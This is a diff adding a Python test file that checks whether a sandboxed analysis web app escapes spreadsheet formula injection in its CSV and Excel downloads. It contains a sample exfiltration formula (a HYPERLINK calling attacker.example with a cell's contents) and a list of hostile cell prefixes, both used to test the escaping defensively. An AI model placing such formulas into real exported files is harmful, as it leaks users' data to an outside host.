@@ -1,0 +1,100 @@
+"""Attacks on the web application around the sandbox (red-team review, issue 22).
+
+Each test is the attack as an outsider or another user would make it, through the real
+API on both stacks; it asserts what they would see: statuses, bodies and file bytes.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+from typing import Any
+
+from openpyxl import load_workbook
+
+from tests.api.test_query import ask, finished, of
+from tests.conftest import Api
+from tests.support.llm import ScriptedLLM, code_reply, final_reply
+
+# -- 1. Spreadsheet injection -------------------------------------------------------------
+
+LEAK = '=HYPERLINK("http://attacker.example/?"&B2,"Click")'
+HOSTILE_CELLS = ["=1+1", "@SUM(1,2)", "+1+1", "-1+1", "\tx=1", "\r=1", "plain", "-3.5"]
+AMOUNTS = [-3.5, 2.0, -1.0, 0.5, 1000.0, -7.25, 0.0, 4.0]
+ESCAPED_CELLS = ["'=1+1", "'@SUM(1,2)", "'+1+1", "'-1+1", "'\tx=1", "'\r=1", "plain", "-3.5"]
+
+
+def new_session(api: Api, title: str = "Attack") -> dict[str, Any]:
+    project = api.project()
+    response = api.post(f"/projects/{project['id']}/sessions", json={"title": title})
+    assert response.status_code == 201, response.text
+    return dict(response.json())
+
+
+def hostile_tables(alice: Api, llm: ScriptedLLM) -> dict[str, dict[str, Any]]:
+    """A run whose table has a formula for a header and formulas for text cells, next to
+    a genuinely numeric column; it is shown (table + CSV) and also written as a CSV."""
+    code = (
+        "import pandas as pd\n"
+        f"df = pd.DataFrame({{{LEAK!r}: {HOSTILE_CELLS!r}, 'secret': ['s3cr3t'] * 8, "
+        f"'amount': {AMOUNTS!r}}})\n"
+        "display(df)\n"
+        # Quoted, so the cell that begins with a carriage return stays one cell.
+        "df.to_csv('written.csv', index=False, quoting=1)"
+    )
+    llm.script(code_reply(code), final_reply("'Done.'"))
+    events = ask(alice, new_session(alice)["id"], "Make the table.")
+    assert finished(events)["status"] == "succeeded", events
+    return {a["artifact"]["name"]: a["artifact"] for a in of(events, "artifact")}
+
+
+def download(api: Api, artifact: dict[str, Any], **params: str) -> bytes:
+    response = api.get(artifact["url"].removeprefix("/api/v1"), params=params)
+    assert response.status_code == 200, response.text
+    return response.content
+
+
+def formulas(text: str) -> list[str]:
+    """The cells of a CSV that a spreadsheet would run as formulas."""
+    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
+    return [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r") and not number(c)]
+
+
+def number(text: str) -> bool:
+    try:
+        float(text)
+    except ValueError:
+        return False
+    return True
+
+
+def test_csv_downloads_escape_formulas_in_headers_and_cells(alice: Api, llm: ScriptedLLM) -> None:
+    artifacts = hostile_tables(alice, llm)
+    table_csv = download(alice, artifacts["table-1.csv"]).decode()
+    assert formulas(table_csv) == []
+    quoted = LEAK.replace('"', '""')
+    assert table_csv.startswith(f'"\'{quoted}",secret,amount\n')
+    written = download(alice, artifacts["written.csv"]).decode()
+    rows = list(csv.reader(io.StringIO(written, newline="")))
+    assert rows[0] == ["'" + LEAK, "secret", "amount"]
+    assert [r[0] for r in rows[1:]] == ESCAPED_CELLS
+    assert all(r[1] == "s3cr3t" for r in rows[1:])
+    # Numbers are left alone: a spreadsheet still reads them as numbers.
+    assert [r[2] for r in rows[1:]] == [str(n) for n in AMOUNTS]
+
+
+def test_excel_downloads_hold_no_formula_in_headers_or_cells(alice: Api, llm: ScriptedLLM) -> None:
+    artifacts = hostile_tables(alice, llm)
+    for name in ("table-1.json", "written.csv"):
+        sheet = load_workbook(io.BytesIO(download(alice, artifacts[name], format="xlsx"))).active
+        header = [sheet.cell(1, c) for c in (1, 2, 3)]
+        assert [c.value for c in header] == ["'" + LEAK, "secret", "amount"], name
+        assert all(c.data_type == "s" for c in header), name
+        cells = [sheet.cell(r, 1) for r in range(2, 10)]
+        values = [c.value for c in cells]
+        # A carriage return does not survive a workbook's XML as such; the quote stays.
+        assert values[5].startswith("'") and values[5].strip("'\r\n") == "=1", name
+        assert values[:5] + values[6:] == ESCAPED_CELLS[:5] + ESCAPED_CELLS[6:], name
+        assert all(c.data_type == "s" for c in cells), name
+        assert [sheet.cell(r, 3).value for r in range(2, 10)] == AMOUNTS, name
+        assert sheet.cell(2, 3).data_type == "n"
